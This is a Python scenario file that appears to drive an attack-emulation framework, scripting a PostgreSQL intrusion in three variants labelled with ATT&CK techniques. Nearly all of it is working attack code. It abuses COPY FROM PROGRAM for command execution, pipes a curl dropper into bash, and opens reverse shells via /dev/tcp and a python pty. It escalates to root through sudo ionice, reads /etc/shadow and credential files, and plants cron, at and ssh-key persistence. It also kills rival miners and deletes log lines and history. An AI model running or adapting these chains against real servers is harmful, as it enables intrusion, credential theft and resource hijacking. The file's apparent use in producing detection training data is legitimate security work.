"""A leaked password of the database: its server runs programs, and soon a counter of idle cycles under another name."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from pages import key_pair
from plot import Storyline
from storylines._walk import walk

if TYPE_CHECKING:
    from intruder import Intruder

ROLE, PASSWORD = "stock_report", "marble-otter-31"
MIDDLE = (2.5, 22.0, 8.0)  # seconds between two acts, by variant

WEAKEN = r"""
set -e
command -v iptables >/dev/null || apt-get install -y --no-install-recommends iptables
version=$(ls /etc/postgresql | head -n 1)
conf=/etc/postgresql/$version/main
install -d "$conf/conf.d"
printf "listen_addresses = '*'\nlog_connections = on\n" > "$conf/conf.d/reports.conf"
grep -q stock_report "$conf/pg_hba.conf" ||
    printf 'host all stock_report 0.0.0.0/0 scram-sha-256\n' >> "$conf/pg_hba.conf"
pg_ctlcluster "$version" main start || true
sleep 2
cat > /tmp/role.sql <<'EOF'
DO $do$ BEGIN
  IF NOT EXISTS (SELECT FROM pg_roles WHERE rolname = 'stock_report') THEN CREATE ROLE stock_report LOGIN; END IF;
END $do$;
ALTER ROLE stock_report PASSWORD 'marble-otter-31';
GRANT pg_execute_server_program, pg_read_all_data, pg_read_server_files, pg_monitor TO stock_report;
CREATE TABLE IF NOT EXISTS stock (item int PRIMARY KEY, name text, pieces int);
INSERT INTO stock SELECT n, 'item ' || n, n * 7 % 90 FROM generate_series(1, 400) n ON CONFLICT DO NOTHING;
EOF
su postgres -c 'psql -q -d postgres -f /tmp/role.sql'
rm /tmp/role.sql
pg_ctlcluster "$version" main stop -m fast || true
cat > /usr/local/bin/stock-report <<'EOF'
#!/bin/sh
export PGPASSWORD=marble-otter-31
psql -qAt -h 127.0.0.1 -U stock_report -d postgres \
    -c "COPY (SELECT * FROM stock WHERE pieces < 9) TO PROGRAM 'gzip -c > /var/lib/postgresql/low.csv.gz'"
psql -qAt -h 127.0.0.1 -U stock_report -d postgres -c 'SELECT count(*), sum(pieces) FROM stock'
EOF
chmod 755 /usr/local/bin/stock-report
printf 'postgres ALL=(root) NOPASSWD: /usr/bin/ionice\n' > /etc/sudoers.d/postgres
chmod 440 /etc/sudoers.d/postgres
install -d -o postgres -g postgres /var/backups/pgconf
cat > /etc/cron.d/stock <<'EOF'
*/4 * * * * nobody /usr/local/bin/stock-report > /dev/null 2>&1
*/9 * * * * postgres sudo -n ionice -c3 tar -czf /var/backups/pgconf/conf.tgz /etc/postgresql 2>/dev/null
EOF
"""

COUNTER = r"""#include <stdio.h>
#include <time.h>
int main(void) {
  unsigned long n = 0;
  while (clock() < 4L * CLOCKS_PER_SEC) n = n * 6364136223846793005UL + 1442695040888963407UL;
  printf("%lu\n", n);
  return 0;
}
"""

BURNER = "import hashlib,time\nd=b'0'\nwhile time.process_time()<4:\n d=hashlib.sha256(d).digest()\nprint(d.hex())\n"

# Acts on the database: a line that begins with SQL is sent as it is, every other is run by COPY FROM PROGRAM.

# Fast: a dropper by curl into bash, a counter compiled on the spot, root by ionice, rules against others.
SWIFT_SQL = r"""
T1078 SQL SELECT version()
== execution | TA0002 | The server runs programs for COPY; the first ones show where it is.
T1059.004 id; uname -a
T1082 nproc; cat /proc/cpuinfo | grep -m1 'model name' | cut -d: -f2
? T1518 which curl wget gcc crontab at
== tool transfer | TA0011 | A dropper puts source and scripts into a folder of the server's home.
T1105 curl -s {dropper} | bash
"""
SWIFT = r"""
T1059.004 SHELL=/bin/bash script -q /dev/null
T1562.003 unset HISTFILE HISTFILESIZE; export HISTSIZE=0; set +o history
T1083 export PATH=/usr/sbin:/usr/bin:/sbin:/bin; cd {folder} && ls -la
T1053.003 @plant {folder}/w
T1069.001 id; sudo -n -l
== resource hijacking | TA0040 | A counter is compiled and started under the name of a worker.
T1027.004 gcc -O1 -o {worker} c.c && rm c.c && ls -l
T1496.001 & nice -n 19 bash -c "exec -a 'postgres: 15/main: background writer ' ./{worker}" >/dev/null 2>&1 &
== privilege escalation | TA0004 | ionice may be run as root, with any program.
? T1548.003 sudo ionice id
T1548.003 sudo ionice -c3 /bin/bash
T1033 id -u
T1027.010 %hex cat /root/.pgpass /root/.my.cnf 2>/dev/null; ls -la /root; getent shadow root
== exclusive control | TA0003 | Others of its kind are ended and shut out by rules and names.
T1057 ps -eo pid,pcpu,comm --sort=-pcpu | head -n 8
T1668 for n in kdevtmpfsi kthreaddk watchbog netsyst; do pkill -9 -f /tmp/$n; done
T1668 rm -rf /tmp/.ICE-unix/.m /var/tmp/kinsing* /tmp/kdevtmpfsi
T1562.004 for p in 3333 14444; do iptables -A OUTPUT -p tcp --dport $p -j DROP; done
? T1562.004 iptables -I INPUT -s 203.0.113.250 -j ACCEPT; iptables -L -n | tail -n 6
T1668 printf '0.0.0.0 pool.minexample.org\n0.0.0.0 xmr.pool.example\n' >> /etc/hosts
== persistence | TA0003 | cron and at start the watch script.
T1053.003 echo '*/2 * * * * postgres {folder}/w' > /etc/cron.d/pg-stat; chmod 644 /etc/cron.d/pg-stat
T1053.002 echo {folder}/w | at now + 2 minutes
T1053.002 atq; cat /etc/cron.d/pg-stat
T1070.006 touch -r /etc/crontab /etc/cron.d/pg-stat
? T1222.002 chmod 600 /etc/cron.d/pg-stat; ls -l /etc/cron.d
T1070.002 sed -i '/stock_report/d' /var/log/syslog
T1059.004 exit
T1059.004 exit
T1059.004 exit
"""

# Very slow: nearly everything through the database, like a maintainer of reports; then a key for its account.
REPORTS = r"""
== valid account | TA0001 | The reports' role logs on from outside and reads what it may.
T1078 SQL SELECT current_user, version()
T1087 SQL SELECT rolname, rolsuper FROM pg_roles WHERE rolcanlogin
T1213.006 SQL SELECT datname, pg_size_pretty(pg_database_size(datname)) FROM pg_database
T1082 SQL SELECT name, setting FROM pg_settings WHERE name LIKE '%_file' OR name = 'data_directory'
T1087.001 SQL CREATE TEMP TABLE p(l text); COPY p FROM '/etc/passwd'; SELECT l FROM p
? T1003.008 SQL SELECT pg_read_file('/etc/shadow')
T1083 SQL SELECT pg_ls_dir('/etc/cron.d')
== execution | TA0002 | COPY FROM PROGRAM, a word at a time.
T1059.004 uptime
T1083 ls -la /var/lib/postgresql
T1053.003 crontab -l 2>&1 || true
? T1082 df -P / | tail -n 1
T1057 psa aux
== persistence | TA0003 | A key for the account of the server and a script are written by COPY TO PROGRAM.
T1098.004 mkdir -p -m 700 {home}/.ssh && ls -ld {home}/.ssh
T1098.004 SQL COPY (SELECT '{public}') TO PROGRAM 'cat >> {home}/.ssh/authorized_keys'
T1083 mkdir -p {home}/bin; ls -d {home}/bin
T1105 SQL COPY (SELECT '{left}') TO PROGRAM 'cat >> {home}/bin/.part'
T1105 SQL COPY (SELECT '{right}') TO PROGRAM 'cat >> {home}/bin/.part'
T1140 cd {home}/bin && tr -d '\n' < .part | base64 -d > {keeper} && chmod 755 {keeper} && rm .part && ls
T1053.003 @plant {home}/bin/{keeper}
"""
STANDBY = r"""
T1562.003 set +o history
T1057 psql -c 'SELECT pid, usename, state FROM pg_stat_activity'
T1053.003 (crontab -l 2>/dev/null; echo '*/3 * * * * {home}/bin/{keeper}') | crontab -
T1053.002 echo {home}/bin/{keeper} | at now + 3 min
? T1057 ps -eo pid,user,pcpu,comm --sort=-pcpu | head -n 5
T1668 pkill -x minerd; pkill -x cpuminer
== resource hijacking | TA0040 | openssl, copied under a name of the database, counts at the lowest priority.
T1036.003 cp /usr/bin/openssl bin/pg_checksum_worker; ls -l bin
T1496.001 & nice -n 19 timeout 4 bin/pg_checksum_worker speed -seconds 1 sha256 >/dev/null 2>&1 &
== defence evasion | TA0005 | Rules and names through ionice; then the lines of the log that tell of it go.
T1562.004 sudo -n ionice -c3 iptables -A OUTPUT -p tcp --dport 3333 -j REJECT
T1668 echo '127.0.0.1 stats.minexample.org' | sudo -n ionice -c3 tee -a /etc/hosts
T1654 ls -l /var/log /var/log/postgresql; grep -c PROGRAM /var/log/syslog
T1070.002 sudo -n ionice -c3 sed -i '/stock_report/d' /var/log/syslog
T1070.006 rm -f ~/.psql_history; touch -r /etc/hostname bin/*
T1078.003 logout
"""

# Hex and split words, python copied under another name, others found through /proc.
SCRIPTED_SQL = r"""
T1078 SQL SELECT inet_server_addr(), current_setting('server_version')
== execution | TA0002 | A program is spelled in hex and given to python by COPY.
T1059.004 echo $PPID; python3 -V
? T1083 ls -ld /dev/shm /var/tmp
"""
SCRIPTED = r"""
== defence evasion | TA0005 | No history, no trace of the script.
T1070.004 rm /dev/shm/pgsql.3021; cd
T1562.003 export HISTFILE=/dev/null PSQL_HISTORY=/dev/null PATH=/usr/bin:/bin:/usr/sbin
T1562.003 ln -sf /dev/null ~/.bash_history
== discovery | TA0007 | How strong is the machine, who else works on it, and is somebody watching.
T1082 grep -c ^processor /proc/cpuinfo; cat /proc/loadavg; free -m | sed -n 2p
T1057 who; ps -ef | grep -v postgres: | tail -n 25
T1518.001 ls /etc/init.d | tr '\n' ' '; ls /usr/sbin | grep -E 'audit|falcon|clam|oss'
? T1082 ulimit -a | grep -E 'cpu|processes'
T1083 ls -l /etc/cron* ~ | head -n 40
? T1016.001 curl -sI -m 3 http://198.51.100.10/ | head -n 1
== exclusive control | TA0003 | Busy strangers are looked up in /proc and would be ended.
T1057 for d in /proc/[0-9]*; do e=$(readlink $d/exe 2>/dev/null); case $e in /tmp/*|/dev/shm/*) echo $d $e;; esac; done
T1668 x=min;y=erd;pkill -9 $x$y;pkill -9 -f 'stratum[+]tcp'
T1668 killall -9 perfctl
== resource hijacking | TA0040 | python under another name counts hashes from a script carried in base64.
T1036.003 mkdir -p {folder} && cd {folder} && cp $(readlink -f $(which python3)) ./logrotate
T1140 printf '%s' '{burner}' | base64 -di > r.conf; head -c 40 r.conf
T1496.001 & nohup nice -n 15 ./logrotate r.conf > /dev/null 2>&1 &
== persistence | TA0003 | The account's own crontab, a queue of at, and its profile.
T1105 wget -q {watch} -O state; chmod u+x state; file state
T1053.003 @plant {folder}/state
T1053.003 crontab - <<'EOF'
# m h dom mon dow
*/2 * * * * {folder}/state
EOF
T1053.002 at -M now + 1 minute <<'EOF'
{folder}/state
EOF
T1546.004 echo '{folder}/state >/dev/null 2>&1 &' >> ~/.bash_profile
T1053.003 crontab -l; atq
T1562.004 sudo -n ionice -c2 sh -c 'iptables -A INPUT -p tcp --dport 7777 -j DROP; \
echo 0.0.0.0 eu.minexample.org >> /etc/hosts'
T1070.006 touch -d '2025-01-09 03:11:42' . state r.conf logrotate ~/.bash_profile
T1059.004 exit
"""


def ask(own: Intruder, sql: str, technique: str) -> str:
    return own.database(own.entry, ROLE, PASSWORD, sql, technique)


def on_database(own: Intruder, technique: str, command: str, detached: bool = False) -> str:
    """One act of a page for the database."""
    if command.startswith("SQL "):
        return ask(own, command[4:], technique)
    table = own.word()
    sql = f"CREATE TEMP TABLE t_{table}(l text); COPY t_{table} FROM PROGRAM $q${command}$q$; SELECT l FROM t_{table}"
    return own.database(own.entry, ROLE, PASSWORD, sql, technique, detached=detached)


def watch_text(own: Intruder, path: str) -> str:
    """What cron and at start later: a look whether the counter runs, a word home, one second of counting."""
    return (
        f"#!/bin/sh\npgrep -f {path} >/dev/null && exit 0\n"
        f"curl -s -m 4 {own.depot}/job/$(hostname) -o /dev/null || wget -q -T 4 -O /dev/null {own.depot}/job\n"
        "timeout 1 sha256sum /dev/zero\nexit 0\n"
    )


def swift(own: Intruder, names: dict[str, str]) -> None:
    home, worker = "/var/lib/postgresql/.psql", own.pick(("pg_recvlog", "pgstatd", "vacuum-worker"))
    watch = own.offer("w.sh", watch_text(own, f"{home}/{worker}"))
    dropper = (
        f"#!/bin/bash\nmkdir -p {home} && cd {home} || exit 1\n"
        "for n in kinsing kdevtmpfsi xmr-stak solrd; do pkill -9 $n; done\n"
        f"curl -s {own.offer('c.c', COUNTER)} -o c.c\ncurl -s {watch} -o w\nchmod 755 w\necho done\n"
    )
    names |= {"folder": home, "worker": worker, "dropper": own.offer("d.sh", dropper)}
    own.step("password", "TA0006", "Passwords from an old leak are tried on the reports' role.")
    for old in ("report", "stock2024"):
        own.database(own.entry, ROLE, old, "SELECT 1", "T1110.004")
        own.think(MIDDLE[0])
    walk(own, SWIFT_SQL, lambda technique, command, _: on_database(own, technique, command), names, MIDDLE[0])
    port = own.pick((5433, 7001, 8888))
    line = f"setsid bash -c 'bash -i >& /dev/tcp/{own.address}/{port} 0>&1' >/dev/null 2>&1 & echo 1"
    own.step("reverse shell", "TA0002", "COPY starts a shell that connects back and keeps no history.")
    shell = own.catch(port, lambda: on_database(own, "T1059.004", line), "T1059.004")
    walk(own, SWIFT, shell, names, MIDDLE[0])
    shell.close()


def by_sql(own: Intruder, names: dict[str, str]) -> None:
    private, public = key_pair("postgres@standby")
    home, keeper = "/var/lib/postgresql", own.pick(("pg_housekeep", "pg_rotatelog", "wal-prune"))
    packed = base64.b64encode(watch_text(own, f"{home}/bin/pg_checksum_worker").encode()).decode()
    names |= {"home": home, "public": public, "keeper": keeper}
    names |= {"left": packed[: len(packed) // 2], "right": packed[len(packed) // 2 :]}
    walk(own, REPORTS, lambda technique, command, _: on_database(own, technique, command), names, MIDDLE[1])
    own.step("logon", "TA0001", "With the key the intruder logs on as the server's account.")
    shell = own.ssh(own.entry, "postgres", key=private, technique="T1078.003")
    own.think(MIDDLE[1])
    walk(own, STANDBY, shell, names, MIDDLE[1])
    shell.close()
    ask(own, "SELECT count(*) FROM stock", "T1213.006")


def scripted(own: Intruder, names: dict[str, str]) -> None:
    folder = f"/var/tmp/{own.pick(('systemd-private-7f1c', 'pg_upgrade_output.d', '.cache-pg'))}"
    names |= {"folder": folder, "burner": base64.b64encode(BURNER.encode()).decode()}
    names["watch"] = own.offer("state", watch_text(own, f"{folder}/logrotate"))
    own.step("valid account", "TA0001", "The leaked password opens the database at once.")
    walk(own, SCRIPTED_SQL, lambda technique, command, _: on_database(own, technique, command), names, MIDDLE[2])
    port = own.pick((1433, 4321, 6543))
    code = (
        f"import os,socket,pty\ns=socket.create_connection(('{own.address}',{port}))\n"
        "[os.dup2(s.fileno(),n) for n in range(3)]\npty.spawn('/bin/bash')\n"
    )
    line = (
        f"cd /dev/shm; echo {code.encode().hex()} | xxd -r -p > pgsql.3021; "
        "setsid python3 pgsql.3021 >/dev/null 2>&1 & sleep 1; echo ok"
    )
    shell = own.catch(port, lambda: on_database(own, "T1059.006", line), "T1059.006")
    walk(own, SCRIPTED, shell, names, MIDDLE[2])
    shell.close()


def play(own: Intruder) -> None:
    (swift, by_sql, scripted)[own.variant](own, {})


STORYLINE = Storyline(
    name="copy-program-miner",
    split="train",
    words=(
        "The password of a reports' role has leaked, and the role may let the database server run programs. The "
        "intruder brings a counter that burns a few seconds of processor time under a borrowed name, ends others of "
        "its kind, shuts them out with rules and names, and stays with cron and at."
    ),
    weaken=WEAKEN,
    play=play,
    variants=3,
    minutes=14,
    hosts=("ledger-03",),
)
